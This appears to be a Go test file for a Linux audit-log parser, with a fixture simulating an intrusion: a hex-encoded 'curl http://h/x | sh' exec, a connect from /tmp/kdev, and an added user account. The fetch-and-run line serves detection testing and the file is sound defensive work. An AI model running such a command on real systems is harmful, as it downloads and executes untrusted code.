@@ -1,0 +1,69 @@
+package auditlog
+
+import (
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+const sample = `type=SYSCALL msg=audit(1795374000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d ppid=812 pid=900 auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"
+type=EXECVE msg=audit(1795374000.123:456): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F682F78207C207368
+type=CWD msg=audit(1795374000.123:456): cwd="/tmp"
+node=shop type=SYSCALL msg=audit(1795374001.000:457): arch=c000003e syscall=42 success=no exit=-115 pid=901 auid=1000 uid=0 comm="kdev" exe="/tmp/kdev" key="net"
+node=shop type=SOCKADDR msg=audit(1795374001.000:457): saddr=020001BBCB0071420000000000000000
+type=SOCKADDR msg=audit(1795374001.000:458): saddr=01002F72756E
+type=ADD_USER msg=audit(1795374002.000:459): pid=902 uid=0 auid=1000 ses=3 msg='op=adding user acct="svc" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'
+nonsense
+`
+
+func collect(text string) (out []Event) {
+	c := &Collector{Tell: func(e Event) { out = append(out, e) }}
+	n := 0
+	for line := range strings.Lines(text) {
+		n++
+		c.Add([]byte(strings.TrimSuffix(line, "\n")), n, 0)
+	}
+	c.Close()
+	return out
+}
+
+func TestCollect(t *testing.T) {
+	at := time.Unix(1795374000, 0).UTC()
+	want := []Event{
+		{Kind: "audit-exec", Time: at.Add(123 * time.Millisecond), Serial: 456, Line: 1, PID: 900, UID: 33, Login: -1, Exe: "/usr/bin/dash", Comm: "sh",
+			Argv: []string{"sh", "-c", "curl http://h/x | sh"}},
+		{Kind: "audit-connect", Time: at.Add(time.Second), Serial: 457, Line: 4, PID: 901, UID: 0, Login: 1000, Exe: "/tmp/kdev", Comm: "kdev", Peer: "203.0.113.66:443"},
+		{Kind: "audit-user", Time: at.Add(2 * time.Second), Serial: 459, Line: 7, PID: 902, UID: 0, Login: 1000, Exe: "/usr/sbin/useradd", Op: "adding", Account: "svc"},
+	}
+	if d := cmp.Diff(want, collect(sample), cmp.AllowUnexported(Event{})); d != "" {
+		t.Error(d)
+	}
+}
+
+// Every line that gives a kind holds an anchor.
+func TestAnchors(t *testing.T) {
+	for line := range strings.Lines(sample) {
+		has := false
+		for _, a := range Anchors {
+			has = has || strings.Contains(line, a)
+		}
+		if got := collect(line); len(got) > 0 && !has {
+			t.Error(line)
+		}
+	}
+}
+
+func FuzzCollect(f *testing.F) {
+	f.Add(sample)
+	f.Add("type=EXECVE msg=audit(1.2:3): argc=9999999 a0=00")
+	f.Fuzz(func(t *testing.T, text string) {
+		for _, e := range collect(text) {
+			if e.Kind == "" || len(e.Argv) > maxArgs || !utf8.ValidString(e.Exe+e.Account+e.Op+strings.Join(e.Argv, "")) {
+				t.Errorf("%+v", e)
+			}
+		}
+	})
+}
